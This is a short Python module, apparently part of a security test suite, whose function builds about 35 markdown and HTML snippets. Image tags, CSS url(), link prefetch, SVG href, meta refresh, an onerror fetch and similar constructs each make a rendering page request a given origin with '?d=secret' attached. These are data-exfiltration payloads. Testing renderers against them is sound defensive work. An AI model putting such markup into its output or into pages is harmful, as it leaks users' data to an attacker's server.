"""S-32: text that makes a careless page ask an attacker's server for something."""

from __future__ import annotations

import itertools


def leaks(origin: str) -> list[str]:
    """S-32: texts that make a careless page ask `origin`, each with an address of its own."""
    there = (f"{origin}/{number}?d=secret" for number in itertools.count())
    templates = [
        "![a](%)",
        "![a][ref]\n\n[ref]: %",
        "![ref]\n\n[ref]: <%> 'title'",
        "[![a](%)](%)",
        "| ![a](%) |\n|---|\n| ![b](%) |",
        "> - ![a](% 'title')",
        "<img src='%'>",
        "<img srcset='% 1x, % 2x'>",
        "<picture><source srcset='%'><img></picture>",
        "<p style='background-image:url(%)'>x</p>",
        "<style>p { background: url('%') } @import '%';</style>",
        "<link rel=stylesheet href='%'>",
        "<link rel=prefetch href='%'>",
        "<link rel=preload as=image href='%'>",
        "<link rel=dns-prefetch href='%'><link rel=preconnect href='%'>",
        "<link rel=icon href='%'>",
        "<video poster='%' autoplay></video>",
        "<video src='%' autoplay></video><audio src='%' autoplay></audio>",
        "<track src='%'>",
        "<a href='https://a.example' ping='%'>x</a>",
        "<svg><image href='%'></image></svg>",
        "<svg><image xlink:href='%'></image></svg>",
        "<svg><use href='%#x'></use></svg>",
        "<svg><feImage href='%'></svg>",
        "<iframe src='%'></iframe>",
        "<object data='%'></object><embed src='%'>",
        "<input type=image src='%'>",
        "<body background='%'><table background='%'><tr><td>x</table>",
        "<form action='%'><button autofocus>x</button></form>",
        "<meta http-equiv=refresh content='0;url=%'>",
        '<script type=speculationrules>{"prefetch":[{"urls":["%"]}]}</script>',
        "<html manifest='%'>",
        "<math><mglyph src='%'></math>",
        "<img src=x onerror=\"fetch('%')\">",
        "```html\n<img src='%'>\n```",
    ]
    found = []
    for template in templates:
        pieces = template.split("%")
        text = pieces[0] + "".join(next(there) + piece for piece in pieces[1:])
        found.append(text)
    return found
